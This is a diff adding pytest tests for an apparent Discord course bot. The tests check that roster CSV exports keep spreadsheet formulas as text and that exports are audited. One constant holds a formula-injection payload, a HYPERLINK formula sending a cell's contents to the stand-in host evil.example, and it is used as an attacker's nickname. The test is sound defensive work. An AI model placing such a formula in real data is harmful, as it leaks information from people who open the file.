@@ -1,0 +1,64 @@
+"""What instructors download: rosters are safe to open in a spreadsheet, and every hand-out is audited."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from sqlalchemy import select
+
+from bot.sandbox import DiscordSandbox
+from db.models import AuditLog
+from db.session import Database
+from tests.cogs.test_roles import sample_zip
+
+PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
+
+
+@pytest.fixture
+async def classroom(discord_sandbox: DiscordSandbox) -> DiscordSandbox:
+    sandbox = discord_sandbox
+    await sandbox.slash("admin setup", user=sandbox.owner, instructor_role=sandbox.instructor_role)
+    imported = await sandbox.slash(
+        "teach course import", user=sandbox.instructor, package=sandbox.attachment("py.zip", sample_zip()), publish=True
+    )
+    assert "Created PY101" in imported.text, imported.text
+    return sandbox
+
+
+async def test_a_formula_in_a_display_name_stays_text_in_the_roster_csv(classroom: DiscordSandbox) -> None:
+    attacker = await classroom.add_member("mallory", nick=PAYLOAD)
+    await classroom.slash("course enroll", user=attacker, course="PY101")
+    await classroom.slash("course enroll", user=classroom.student, course="PY101")
+
+    roster = await classroom.slash("teach roster", user=classroom.instructor, course="PY101")
+
+    (table,) = roster.files
+    rows = list(csv.DictReader(io.StringIO(table.data.decode())))
+    names = {row["user_id"]: row["display_name"] for row in rows}
+    assert names[attacker["user"]["id"]] == "'" + PAYLOAD
+    assert names[classroom.student["user"]["id"]] == "Sam"
+
+
+async def test_the_roster_and_the_package_export_are_audited(
+    classroom: DiscordSandbox, database: Database, tmp_path: Path
+) -> None:
+    await classroom.slash("course enroll", user=classroom.student, course="PY101")
+
+    await classroom.slash("teach roster", user=classroom.instructor, course="PY101")
+    await classroom.slash("teach course export", user=classroom.instructor, course="PY101")
+
+    async with database.session_scope() as session:
+        rows = list(
+            await session.scalars(
+                select(AuditLog).where(AuditLog.action.in_(["course.roster", "course.export"])).order_by(AuditLog.id)
+            )
+        )
+    instructor_id = int(classroom.instructor["user"]["id"])
+    assert [(row.action, row.actor_id, row.meta) for row in rows] == [
+        ("course.roster", instructor_id, {"code": "PY101", "members": 1}),
+        ("course.export", instructor_id, {"code": "PY101"}),
+    ]
+    assert rows[0].guild_id == int(classroom.guild["id"]) and rows[0].target_type == "course"
